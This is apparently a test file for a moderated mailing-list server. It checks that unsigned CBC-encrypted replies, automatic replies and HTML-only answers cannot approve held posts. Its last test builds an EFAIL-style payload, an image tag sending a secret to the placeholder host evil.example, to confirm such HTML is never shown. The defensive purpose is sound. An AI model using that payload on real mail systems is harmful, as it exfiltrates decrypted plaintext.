/**
 * S13: CBC without a signature can be changed on the way (EFAIL's gadgets write chosen blocks into it), so what was
 * opened from it never runs a command, not even where a list asks for no signatures and the address was right. And what a
 * program sends by itself, quoting a notice, decides nothing (RFC 3834).
 */
import assert from "node:assert/strict";
import { test } from "node:test";
import { heldList, heldSend } from "#operations";
import { composeText } from "#mime";
import { entity, mixed, sealedCms, signed } from "../support/programs/correspondents.ts";
import {
  type Moderated,
  moderatedTeam,
  newestMail,
  reply,
  SECRET,
  textOf,
} from "../support/lists/moderators.ts";
import { heldCodes, letter, TEAM } from "../support/lists/sealed-team.ts";

const NO_SIGNATURES = { gpg_post_sign: "no", smime_post_sign: "no" };

async function asked(story: Moderated) {
  const id = await story.aPostWaits();
  const { replyTo } = await newestMail(story, story.olga);
  return { id, replyTo };
}

for (const [words, settings] of [
  ["a list that asks for signatures", {}],
  ["one that does not", NO_SIGNATURES],
] as const) {
  test(`CBC without a signature orders nothing on ${words}`, async (t) => {
    const story = await moderatedTeam(t, settings);
    const { server, olga, team } = story;
    const { id, replyTo } = await asked(story);
    const content = sealedCms(team.smime, entity(`accept ${id}\n`), "cbc");
    await reply(server, { by: olga, to: replyTo, text: "", content });
    assert.deepEqual(await heldCodes(server), ["held member-moderated"]);
    assert.match((await newestMail(story, olga)).text, /can be changed on the way/);
  });
}

test("where no signatures are asked for, the address stands inside of what is sealed only", async (t) => {
  const story = await moderatedTeam(t, NO_SIGNATURES);
  const { server, olga } = story;
  const { id, replyTo } = await asked(story);
  assert.match(replyTo, /^team-confirm\+/);
  const outside = textOf(server.mailbox(olga.address).at(-1)?.data);
  assert.match(outside, /^Reply-To: team-owner@example\.org\r$/m);
  assert.equal(outside.includes(replyTo), false);
  await reply(server, { by: olga, to: replyTo, text: "", content: entity(`accept ${id}\n`) });
  assert.deepEqual(await heldCodes(server), []);
});

test("a program's answer orders nothing: no envelope sender, Auto-Submitted, Precedence, a report", async (t) => {
  const story = await moderatedTeam(t);
  const { server, olga } = story;
  const { id, replyTo } = await asked(story);
  const before = server.sink.messages.length;
  const automatic = [
    { from: "" },
    { more: [["Auto-Submitted", "auto-replied"]] },
    { more: [["Precedence", "bulk"]] },
    { more: [["List-Id", "<x.example.com>"]] },
  ] as const;
  for (const [nth, facts] of automatic.entries())
    await reply(server, { by: olga, to: replyTo, text: `accept ${id}`, id: `a${nth}`, ...facts });
  const kept = automatic.map(() => "refused automatic");
  assert.deepEqual(await heldCodes(server), ["held member-moderated", ...kept]);
  assert.equal(server.sink.messages.length, before, "and nobody is answered");
});

test("HTML alone and attached texts are no answer", async (t) => {
  const story = await moderatedTeam(t);
  const { server, olga } = story;
  const { id, replyTo } = await asked(story);
  const html = entity(`<p>accept ${id}</p>`, [["Content-Type", "text/html"]]);
  const file = composeText(`accept ${id}\r\n`, [["Content-Disposition", "attachment; filename=x.txt"]]);
  for (const [nth, content] of [html, mixed(file, html)].entries()) {
    await reply(server, {
      by: olga,
      to: replyTo,
      text: "",
      content: await signed(olga, content),
      id: `h${nth}`,
    });
    assert.deepEqual(await heldCodes(server), ["held member-moderated"]);
  }
});

test("nobody is shown HTML that anybody could have changed", async (t) => {
  const story = await moderatedTeam(t);
  const { server, olga, team } = story;
  const html = entity(`<img src="https://evil.example/${SECRET}">`, [["Content-Type", "text/html"]]);
  const message = letter(team.alice, sealedCms(team.smime, html, "cbc"));
  await server.post({ from: team.alice.address, to: TEAM, message });
  const [held] = await server.call(heldList, {});
  await server.call(heldSend, { id: held?.id ?? 0, to: olga.address });
  await server.drain();
  const answer = await newestMail(story, olga);
  assert.match(answer.text, /cannot be shown: anybody could have changed it on the way/);
  assert.equal(answer.parts.length, 1);
});
